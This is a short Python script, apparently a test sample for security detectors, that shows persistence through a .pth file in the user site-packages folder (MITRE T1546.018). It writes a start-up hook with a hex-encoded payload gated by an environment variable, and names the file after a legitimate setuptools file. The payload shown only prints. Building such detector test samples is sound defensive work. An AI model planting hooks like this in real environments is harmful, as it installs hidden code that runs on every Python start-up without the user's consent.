# technique: T1546.018 T1546
"""Persistence through a .pth file in the user site-packages (T1546.018).

The technique used by several malicious PyPI packages (and documented by
Python's own site module): a `*.pth` file whose line starts with `import ` is
executed by every Python start-up. The path is computed from
site.getusersitepackages() and the file is created with os.replace from a
temporary name so the final name is never opened for writing directly.

A good detector raises a high alert: a .pth file with executable content is
written into a site-packages directory.
"""
import os, site, tempfile

d = site.getusersitepackages()
os.makedirs(d, exist_ok=True)
fd, tmp = tempfile.mkstemp(dir=d, suffix=".tmp")
os.write(fd, b"import os, sys; exec(bytes.fromhex('7072696e742829')) if os.getenv('X_UPD') else None\n")
os.close(fd)
os.replace(tmp, os.path.join(d, "distutils-precedence-" + "helper.pth"))
